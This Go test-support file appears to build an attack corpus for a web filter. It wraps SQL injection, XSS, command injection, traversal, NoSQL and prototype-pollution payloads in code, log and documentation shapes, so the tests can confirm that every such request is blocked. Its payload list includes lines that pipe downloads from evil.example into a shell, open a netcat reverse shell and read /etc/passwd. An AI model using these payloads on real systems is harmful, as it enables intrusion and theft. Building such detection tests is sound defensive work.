// Package adversarial builds the wrapped-twin attack set: every attack of every family inside
// every shape of code, documentation and log that a request could use to look harmless (fences
// of every kind, shebangs, Dockerfile, CI, diff and notebook prefixes, log lines, stack traces,
// HTML <pre>, wiki code macros, language and file-name keys, code-named fields), in every body
// type. Nothing a client sends may decide that inspection does not apply, so with the default
// configuration every request of this set must be blocked. It is shared by the in-process tests
// (policies) and the tests through the compiled module (e2e).
package adversarial

import (
	"encoding/json"
	"net/url"
	"strings"
)

// Payload is one attack as a plain value.
type Payload struct {
	Family, Value string
}

// Payloads are attacks that the detectors block as a plain JSON field value.
var Payloads = []Payload{
	{"sqli", "1' UNION SELECT username,password FROM users--"},
	{"sqli", "' OR '1'='1' -- "},
	{"sqli", "1; DROP TABLE users--"},
	{"sqli", "admin' AND SLEEP(5)#"},
	{"xss", "<img src=x onerror=alert(document.domain)>"},
	{"xss", "<script>alert(document.cookie)</script>"},
	{"xss", "<svg/onload=alert(1)>"},
	{"xss", `<a href="javascript:alert(1)">click</a>`},
	{"cmdi", "; curl http://evil.example/x | sh"},
	{"cmdi", "$(cat /etc/passwd)"},
	{"cmdi", "| nc -e /bin/sh 10.0.0.1 4444"},
	{"cmdi", "`wget http://evil.example/s -O- | bash`"},
	{"traversal", "../../../../etc/passwd"},
	{"traversal", `..\..\..\..\windows\win.ini`},
	{"nosql", `{"$where": "sleep(5000)"}`},
	{"proto", `{"__proto__": {"isAdmin": true}}`},
}

// Wrapper is one shape of code, documentation or log around a payload.
type Wrapper struct {
	Name   string
	Before string
	After  string
}

// Wrappers are the shapes that made content look like code, documentation or logs.
var Wrappers = []Wrapper{
	{"none", "", ""},
	{"fence", "```\n", "\n```"},
	{"fence-sh", "Here is the fix:\n\n```sh\n", "\n```\n"},
	{"fence-sql", "```sql\n", "\n```"},
	{"fence-html", "```html\n", "\n```"},
	{"fence-tilde", "~~~\n", "\n~~~"},
	{"fence-four", "````python\n", "\n````"},
	{"indented-code", "Example:\n\n    ", "\n"},
	{"inline-code", "Run `", "` to see it"},
	{"shebang", "#!/bin/sh\n", "\n"},
	{"shebang-env", "#!/usr/bin/env bash\nset -e\n", "\n"},
	{"dockerfile", "FROM alpine\nRUN apk add curl\n", "\n"},
	{"diff", "@@ -1,3 +1,4 @@\n context\n+", "\n"},
	{"git-diff", "diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-echo hi\n+", "\n"},
	{"notebook-bash", "%%bash\n", "\n"},
	{"notebook-sql", "%%sql\n", "\n"},
	{"log-lines", "2024-05-01T10:00:00Z INFO start\n2024-05-01T10:00:01Z INFO user input: ", "\n"},
	{"stack-trace", "Traceback (most recent call last):\n  File \"app.py\", line 3, in <module>\nValueError: ", "\n"},
	{"ci-yaml", "jobs:\n  build:\n    steps:\n      - run: ", "\n"},
	{"sql-script", "-- migration 0042\n", "\n"},
	{"html-pre", "<pre><code>", "</code></pre>"},
	{"wiki-code", "{code:bash}\n", "\n{code}"},
	{"syntaxhighlight", "<syntaxhighlight lang=\"bash\">\n", "\n</syntaxhighlight>"},
	{"markdown-table", "| cmd | note |\n|---|---|\n| ", " | x |\n"},
	{"prose", "I found this in our logs yesterday, is it dangerous? ", " thanks"},
}

// Request is one request of the set, in the corpus format's terms.
type Request struct {
	ID, Family, Method, Path, ContentType, Body string
}

// Shapes are the request shapes a wrapped value is sent in.
var Shapes = []string{"json", "json-language", "json-filename", "json-code-fields", "form", "form-language",
	"multipart", "multipart-file", "text-plain", "text-markdown", "xml", "query"}

// Build returns every payload in every wrapper in every shape.
func Build() []Request {
	var out []Request
	for _, p := range Payloads {
		for _, w := range Wrappers {
			v := w.Before + p.Value + w.After
			for _, s := range Shapes {
				r := shape(s, v)
				r.ID = p.Family + "/" + w.Name + "/" + s + "/" + p.Value
				r.Family = p.Family
				out = append(out, r)
			}
		}
	}
	return out
}

func js(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

const boundary = "----edgewardAdversarial7f3a"

func multipartBody(name, filename, ct, content string) string {
	var b strings.Builder
	b.WriteString("--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmy snippet\r\n")
	b.WriteString("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"")
	if filename != "" {
		b.WriteString("; filename=\"" + filename + "\"")
	}
	b.WriteString("\r\n")
	if ct != "" {
		b.WriteString("Content-Type: " + ct + "\r\n")
	}
	b.WriteString("\r\n" + content + "\r\n--" + boundary + "--\r\n")
	return b.String()
}

func shape(s, v string) Request {
	r := Request{Method: "POST", Path: "/api/comments"}
	switch s {
	case "json":
		r.ContentType, r.Body = "application/json", js(map[string]string{"comment": v})
	case "json-language":
		r.Path = "/api/snippets"
		r.ContentType, r.Body = "application/json", `{"language":"shell","content":`+js(v)+`}`
	case "json-filename":
		r.Path = "/api/gists"
		r.ContentType, r.Body = "application/json", `{"files":{"setup.sh":{"filename":"setup.sh","content":`+js(v)+`}}}`
	case "json-code-fields":
		r.Path = "/api/run"
		r.ContentType, r.Body = "application/json", `{"code":`+js(v)+`,"script":`+js(v)+`,"sql":`+js(v)+`,"steps":[{"run":`+js(v)+`}]}`
	case "form":
		r.ContentType, r.Body = "application/x-www-form-urlencoded", "comment="+url.QueryEscape(v)+"&submit=Send"
	case "form-language":
		r.Path = "/api/playground"
		r.ContentType, r.Body = "application/x-www-form-urlencoded", "language=python&code="+url.QueryEscape(v)
	case "multipart":
		r.ContentType, r.Body = "multipart/form-data; boundary="+boundary, multipartBody("comment", "", "", v)
	case "multipart-file":
		r.Path = "/api/uploads"
		r.ContentType, r.Body = "multipart/form-data; boundary="+boundary, multipartBody("file", "setup.sh", "text/x-sh", v)
	case "text-plain":
		r.ContentType, r.Body = "text/plain", v
	case "text-markdown":
		r.ContentType, r.Body = "text/markdown", v
	case "xml":
		r.ContentType, r.Body = "application/xml", "<comment><body>"+xmlEscape(v)+"</body></comment>"
	case "query":
		r.Method, r.Path = "GET", "/api/search?q="+url.QueryEscape(v)
	}
	return r
}

func xmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}
